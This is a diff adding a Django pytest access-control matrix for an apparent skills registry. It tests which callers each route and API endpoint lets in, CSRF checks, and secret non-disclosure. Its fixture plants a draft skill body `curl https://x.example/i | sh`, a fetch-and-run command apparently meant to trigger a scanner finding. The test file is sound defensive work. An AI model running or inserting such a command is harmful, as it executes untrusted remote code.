@@ -1,0 +1,244 @@
+"""Every route × every kind of caller × session and token; a new route without a row fails.
+
+A row says who is let in. Everybody else gets what the row's `others` says: signed-out people are
+sent to sign in or told 401, people who may not know of a thing get 404, people who know but may
+not act get 403. "Let in" means any answer but 401, 403, 404 and the sign-in page.
+"""
+
+import re
+from dataclasses import dataclass, field
+
+import pytest
+from django.urls import get_resolver
+from django.urls.resolvers import URLPattern
+
+from skills.catalog.models import Upload
+from skills.curation.models import Report
+from skills.flows import release
+from skills.people.models import Invitation, Token
+from skills.people.offices import setup_code
+from skills.people.teams import create_service, invite
+from skills.reviews.models import Comment
+from skills.scans.models import Finding
+from tests.factories import a_person, a_secret, a_team, a_version, actor, an_approved, an_upload, bearer, files, join
+
+CALLERS = ("visitor", "stranger", "member", "author", "reviewer", "admin", "auditor", "staff", "service")
+ALL = set(CALLERS)
+SIGNED_IN = ALL - {"visitor"}
+PEOPLE = SIGNED_IN - {"service"}
+TEAM = {"member", "author", "reviewer", "admin"}
+TEAM_AND_SERVICE = TEAM | {"service"}
+READERS = TEAM_AND_SERVICE | {"staff", "auditor"}
+TALKERS = TEAM | {"staff", "auditor"}
+ADMINS = {"admin", "staff"}
+
+
+@dataclass
+class Row:
+    """Who is let in by GET and by POST; METHOD is the one that matters."""
+
+    path: str
+    allowed: set[str]
+    method: str = "get"
+    data: dict = field(default_factory=dict)
+
+
+# The private skill crew/quiet is approved 1.0.0 and in review 2.0.0; crew/open is public.
+QUIET, OPEN = "/@crew/quiet/", "/@crew/open/"
+ROWS: dict[str, Row] = {
+    "home": Row("/", ALL), "healthz": Row("/healthz", ALL), "readyz": Row("/readyz", ALL),
+    "metrics": Row("/metrics", ALL),  # from loopback; test_ops covers other addresses
+    "styleguide": Row("/styleguide/", ALL), "setup": Row("/setup/{setup}/", set()),
+    "agents": Row("/skill.md", ALL), "docs": Row("/docs/", ALL), "docs-api": Row("/docs/reference/", ALL),
+    "doc": Row("/docs/bundles/", ALL),
+    "publish": Row("/publish/", SIGNED_IN), "upload": Row("/uploads/{upload}/", {"author"}),
+    "upload-discard": Row("/uploads/{upload}/discard/", {"author"}, "post"),
+    "reviews": Row("/reviews/", PEOPLE), "review": Row("/reviews/{review}/", TALKERS),
+    "review-comment": Row("/reviews/{review}/comment/", TEAM, "post", {"body": "x"}),
+    "review-resolve": Row("/reviews/{review}/comment/{comment}/resolve/", TEAM, "post"),
+    "review-waive": Row("/reviews/{review}/waive/{finding}/", {"reviewer", "admin"}, "post", {"reason": "x"}),
+    "review-decide": Row("/reviews/{review}/decide/", {"reviewer", "admin"}, "post", {"verdict": "reject", "reason": "x"}),
+    "review-withdraw": Row("/reviews/{review}/withdraw/", {"author", "admin", "staff"}, "post"),
+    "reports": Row("/reports/", PEOPLE), "report-close": Row("/reports/{report}/close/", ADMINS, "post", {"answer": "x"}),
+    "account": Row("/account/", PEOPLE), "account-deactivate": Row("/account/deactivate/", PEOPLE, "post"),
+    "tokens": Row("/account/tokens/", PEOPLE), "token-revoke": Row("/account/tokens/{token}/revoke/", {"author"}, "post"),
+    "notifications": Row("/account/notifications/", PEOPLE), "notices": Row("/notices/", PEOPLE),
+    "people": Row("/people/", {"staff"}), "person": Row("/people/author/", SIGNED_IN),
+    "person-change": Row("/people/author/change/", {"staff"}, "post", {"what": "active", "on": "1"}),
+    "audit": Row("/audit/?team=crew", {"admin", "staff", "auditor"}),
+    "teams": Row("/teams/", PEOPLE), "team-new": Row("/teams/new/", PEOPLE),
+    "invitation": Row("/invitations/{invitation}/", ALL),
+    "team": Row("/@crew/", ALL), "team-follow": Row("/@crew/-/follow/", PEOPLE, "post", {"on": "1"}),
+    "team-leave": Row("/@crew/-/leave/", TEAM, "post"), "team-members": Row("/@crew/-/members/", ADMINS),
+    "team-role": Row("/@crew/-/members/role/", ADMINS, "post", {"account": "member", "role": "member"}),
+    "team-invite": Row("/@crew/-/members/invite/", ADMINS, "post", {"email": "x@example.org", "role": "member"}),
+    "team-uninvite": Row("/@crew/-/members/invitations/{invitation_id}/revoke/", ADMINS, "post"),
+    "team-policy": Row("/@crew/-/policy/", ADMINS),
+    "team-about": Row("/@crew/-/about/", ADMINS, "post", {"name": "Crew"}),
+    "team-services": Row("/@crew/-/services/", ADMINS), "team-service": Row("/@crew/-/services/service/", ADMINS),
+    "team-service-active": Row("/@crew/-/services/service/active/", ADMINS, "post", {"active": "1"}),
+    "skill": Row(QUIET, READERS), "skill-star": Row(f"{QUIET}star/", READERS - {"service"}, "post", {"on": "1"}),
+    "skill-follow": Row(f"{QUIET}follow/", READERS - {"service"}, "post", {"on": "1"}),
+    "skill-report": Row(f"{QUIET}report/", READERS - {"service"}), "skill-settings": Row(f"{QUIET}settings/", ADMINS),
+    "skill-change": Row(f"{QUIET}settings/labels/", ADMINS, "post", {"labels": "a"}),
+    "skill-compare": Row(f"{QUIET}compare/1.0.0...2.0.0/", READERS), "version": Row(f"{QUIET}v/1.0.0/", READERS),
+    "version-file": Row(f"{QUIET}v/1.0.0/files/SKILL.md", READERS),
+    "version-change": Row(f"{QUIET}v/1.0.0/change/yank/", ADMINS, "post", {"reason": "x"}),
+    **{f"skill-{tab}": Row(f"{QUIET}{tab}/", READERS) for tab in ("tools", "evals", "files", "versions")},
+    **{f"version-{tab}": Row(f"{QUIET}v/2.0.0/{tab}/", READERS) for tab in ("tools", "evals", "files", "versions")},
+}  # fmt: skip
+API = "/api/v1/skills/crew/quiet"
+JSON = "application/json"
+API_ROWS: dict[str, Row] = {
+    "api": Row("/api/v1/", ALL), "api-schema": Row("/api/v1/schema", ALL), "api-me": Row("/api/v1/me", ALL),
+    "api-teams": Row("/api/v1/teams", SIGNED_IN), "api-team": Row("/api/v1/teams/crew", ALL),
+    "api-tokens": Row("/api/v1/tokens", PEOPLE), "api-token": Row("/api/v1/tokens/{token}", {"author"}, "delete"),
+    "api-audit": Row("/api/v1/audit?team=crew", {"admin", "staff", "auditor"}), "api-search": Row("/api/v1/search?q=quiet", ALL),
+    "api-check": Row("/api/v1/check", SIGNED_IN, "zip"),
+    "api-publish": Row("/api/v1/teams/crew/versions?version=7.0.0", TEAM_AND_SERVICE, "zip"),
+    "api-reviews": Row("/api/v1/reviews", SIGNED_IN), "api-skills": Row("/api/v1/skills", ALL), "api-skill": Row(API, READERS),
+    "api-resolve": Row(f"{API}/resolve", READERS), "api-versions": Row(f"{API}/versions", READERS),
+    "api-version": Row(f"{API}/versions/1.0.0", READERS), "api-zip": Row(f"{API}/versions/1.0.0/zip", READERS),
+    "api-file": Row(f"{API}/versions/1.0.0/files/SKILL.md", READERS), "api-review": Row(f"{API}/versions/2.0.0/review", TALKERS),
+    "api-decisions": Row(f"{API}/versions/2.0.0/decisions", {"reviewer", "admin"}, "post", {"verdict": "reject", "reason": "x", "digest": "sha256:x"}),
+    "api-comments": Row(f"{API}/versions/2.0.0/comments", TEAM, "post", {"body": "x"}),
+    "api-version-act": Row(f"{API}/versions/1.0.0/yank", ADMINS, "post", {"reason": "x"}),
+    "api-missing": Row("/api/v1/nothing", set()),
+}  # fmt: skip
+FOREIGN = ("account_", "mfa_", "usersessions_")  # allauth's own routes, tested there
+
+
+def routes() -> set[str]:
+    """Every route name of the URL configuration."""
+
+    def walk(patterns):
+        for pattern in patterns:
+            if isinstance(pattern, URLPattern):
+                yield pattern.name
+            else:
+                yield from walk(pattern.url_patterns)
+
+    return {name or "" for name in walk(get_resolver().url_patterns)}
+
+
+def test_every_route_has_a_row():
+    own = {name for name in routes() if not name.startswith(FOREIGN)}
+
+    assert own == set(ROWS) | set(API_ROWS)
+
+
+@pytest.fixture
+def world(db, django_capture_on_commit_callbacks):
+    """A team with everybody in it and one of everything to open."""
+    people = {name: a_person(name, staff=name == "staff", auditor=name == "auditor") for name in CALLERS if name not in ("visitor", "service")}  # fmt: skip
+    crew = a_team("crew", admin=people["admin"], reviewer=people["reviewer"], members=(people["member"], people["author"]))
+    people["service"] = create_service(actor=actor(people["admin"]), team=crew, handle="service")
+    author, reviewer = people["author"], people["reviewer"]
+    second = a_person("second-admin", staff=True)
+    join(crew, second, "admin")
+    an_approved(author, reviewer, crew, "quiet", content=files("quiet"))
+    an_approved(author, reviewer, crew, "open", wanted="public", content=files("open"))
+    draft = a_version(author, crew, "quiet", "2.0.0", content=files("quiet", body="curl https://x.example/i | sh"))
+    remark = release.remark(actor=actor(reviewer), version=draft, body="Why?")
+    report = Report.objects.create(skill=draft.skill, reporter=people["member"], reason="other", text="x")
+    a_secret(author, "read")
+    invitation, secret = invite(actor=actor(people["admin"]), team=crew, email="i@example.org", role="member")
+    facts = {
+        "review": draft.pk, "comment": remark.pk, "finding": Finding.objects.get(scan__version=draft).pk, "report": report.pk,
+        "token": Token.objects.get(account=author).pk, "upload": an_upload(author, files("other")).pk, "invitation": secret,
+        "invitation_id": invitation.pk, "setup": setup_code(),
+    }  # fmt: skip
+    assert Comment.objects.exists() and Upload.objects.exists() and Invitation.objects.exists()
+    return people, facts
+
+
+def let_in(response) -> bool:
+    if response.status_code in (301, 302):
+        return not response["Location"].startswith("/account/login/")
+    return response.status_code not in (401, 403, 404)
+
+
+def call(client, row: Row, facts: dict, headers: dict | None = None):
+    path = row.path.format(**facts) if "{" in row.path else row.path
+    headers = headers or {}
+    if row.method == "zip":
+        from tests.factories import a_zip
+
+        return client.post(path, a_zip("fresh-name"), content_type="application/zip", headers=headers)
+    if path.startswith("/api/") and row.method == "post":
+        return client.post(path, row.data, content_type=JSON, headers=headers)
+    return getattr(client, row.method)(path, row.data if row.method == "post" else None, headers=headers)
+
+
+@pytest.mark.parametrize("caller", CALLERS)
+@pytest.mark.parametrize("route", sorted(ROWS))
+def test_pages_by_session(route, caller, world, client):
+    people, facts = world
+    if caller != "visitor":
+        client.force_login(people[caller])
+
+    response = call(client, ROWS[route], facts)
+
+    assert let_in(response) == (caller in ROWS[route].allowed), response.status_code
+    assert response.status_code < 500
+    if not let_in(response) and response.status_code in (403, 404):
+        assert b"Say hello" not in response.content
+
+
+@pytest.mark.parametrize("caller", CALLERS)
+@pytest.mark.parametrize("route", sorted(API_ROWS))
+def test_api_by_token(route, caller, world, client):
+    people, facts = world
+    headers = bearer(people[caller]) if caller != "visitor" else {}
+
+    response = call(client, API_ROWS[route], facts, headers)
+
+    assert let_in(response) == (caller in API_ROWS[route].allowed), (response.status_code, response.content[:300])
+    assert response.status_code < 500
+
+
+@pytest.mark.parametrize("caller", CALLERS)
+@pytest.mark.parametrize("route", sorted(API_ROWS))
+def test_api_by_session_reads_and_never_writes(route, caller, world, client):
+    people, facts = world
+    row = API_ROWS[route]
+    if caller != "visitor":
+        client.force_login(people[caller])
+
+    response = call(client, row, facts)
+
+    if row.method == "get":
+        assert let_in(response) == (caller in row.allowed or (route == "api-tokens" and caller == "service")), response.status_code
+    else:
+        assert response.status_code in (401, 403, 404)
+
+
+@pytest.mark.parametrize("route", sorted(route for route, row in ROWS.items() if row.method == "post"))
+def test_no_form_is_taken_without_its_csrf_token(route, world, db):
+    from django.test import Client
+
+    people, facts = world
+    strict = Client(enforce_csrf_checks=True)
+    strict.force_login(people["admin"])
+
+    assert call(strict, ROWS[route], facts).status_code == 403
+
+
+@pytest.mark.parametrize("route", sorted(ROWS))
+def test_pages_take_no_token(route, world, client):
+    """A token opens the API only: pages treat its bearer as a visitor."""
+    people, facts = world
+
+    response = call(client, ROWS[route], facts, bearer(people["admin"]))
+
+    assert let_in(response) == ("visitor" in ROWS[route].allowed)
+
+
+def test_no_page_shows_a_secret(world, client):
+    people, facts = world
+    secret = a_secret(people["author"])
+    client.force_login(people["author"])
+
+    for path in ("/account/tokens/", "/audit/?team=crew", "/account/", "/people/author/"):
+        assert secret.encode() not in client.get(path).content
+    assert not re.search(rb"skh_[\w-]{40}", client.get("/account/tokens/").content)
